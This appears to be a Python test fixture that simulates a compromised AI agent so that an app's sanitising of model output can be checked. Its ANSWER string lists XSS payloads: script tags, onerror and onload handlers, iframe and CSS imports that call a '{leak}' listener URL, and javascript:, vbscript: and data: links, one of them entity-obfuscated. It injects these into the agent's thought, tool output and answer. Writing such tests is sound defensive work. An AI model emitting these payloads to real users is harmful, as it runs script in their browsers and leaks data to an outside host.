"""An agent that answers as an attacker would who has the model in hand; `{leak}` is where he listens."""

from netra_backend.agents.context import Context

ANSWER = """# Hostile

<script>window.stolen = 1; fetch("{leak}/script")</script>
<img src="{leak}/html-image" onerror="window.stolen = 2">
<svg onload="window.stolen = 3"><image href="{leak}/svg" /></svg>
<iframe src="{leak}/frame"></iframe>
<style>@import url("{leak}/style");</style>

![picture]({leak}/markdown-image)
![data](data:text/html,<script>window.stolen=4</script>)
[script link](javascript:alert(1))
[entity link](java&#115;cript:alert(2))
[data link](data:text/html,<script>alert(3)</script>)
[vbscript link](vbscript:alert(4))
[honest link](https://example.com/)
[reference link][one]

[one]: javascript:alert(5)

`<b>code</b>`

End of the attack.
"""


async def answer(ctx: Context) -> str:
    """The attack in the thought, in the tool's output and in the answer; the question says where to."""
    text = ANSWER.replace("{leak}", ctx.text)
    await ctx.think(text)
    async with ctx.tool("<img src=x onerror=alert(6)>", {"page": text}) as call:
        call.result = text
    return text
